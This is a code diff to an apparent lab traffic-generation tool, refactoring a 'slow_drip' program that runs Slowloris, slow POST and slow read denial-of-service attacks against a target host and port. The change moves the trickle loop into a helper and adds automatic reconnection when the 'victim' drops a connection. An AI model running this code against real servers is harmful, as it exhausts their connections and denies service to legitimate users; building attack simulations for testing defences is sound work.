@@ -5,7 +5,7 @@ import contextlib
 
 from train.lab import sockets
 from train.lab.actor import Actor
-from train.lab.plan import Job
+from train.lab.plan import Job, Params
 from train.lab.programs.mqtt import connect_packet, publish_packet, subscribe_packet
 from train.lab.programs.web import fetch
 from train.lab.registry import program
@@ -79,6 +79,18 @@ _FIRST = {
 }
 
 
+async def _drip(me: Actor, p: Params, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    """Keep one connection busy until the victim ends it."""
+    writer.write(_FIRST[p["mode"]])
+    while True:
+        await asyncio.sleep(p["interval"] * me.rng.uniform(0.7, 1.3))
+        if p["mode"] == "read":
+            await reader.readexactly(500)
+            continue
+        writer.write(b"x" if p["mode"] == "body" else f"X-{me.rng.randint(1, 5000)}: b\r\n".encode())
+        await writer.drain()
+
+
 @program
 async def slow_drip(me: Actor, job: Job) -> None:
     """Slowloris, slow POST and slow read: hold `connections`, a little on each every `interval` s."""
@@ -86,22 +98,15 @@ async def slow_drip(me: Actor, job: Job) -> None:
 
     async def one(number: int) -> None:
         source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
-        with contextlib.suppress(*_Broken):
-            async with sockets.connection(
-                p["target"],
-                p["port"],
-                source=source,
-                buffer_bytes=_SLOW_BYTES if p["mode"] == "read" else None,
-            ) as (reader, writer):
-                writer.write(_FIRST[p["mode"]])
-                while True:
-                    await asyncio.sleep(p["interval"] * me.rng.uniform(0.7, 1.3))
-                    if p["mode"] == "read":
-                        await reader.readexactly(500)
-                        continue
-                    header = f"X-{me.rng.randint(1, 5000)}: b\r\n".encode()
-                    writer.write(b"x" if p["mode"] == "body" else header)
-                    await writer.drain()
+        small = _SLOW_BYTES if p["mode"] == "read" else None
+        while True:
+            with contextlib.suppress(*_Broken):
+                async with sockets.connection(p["target"], p["port"], source=source, buffer_bytes=small) as (
+                    reader,
+                    writer,
+                ):
+                    await _drip(me, p, reader, writer)
+            await asyncio.sleep(p["interval"])
 
     async with asyncio.TaskGroup() as group:
         async for number in me.paced(p["rate"], count=p["connections"]):
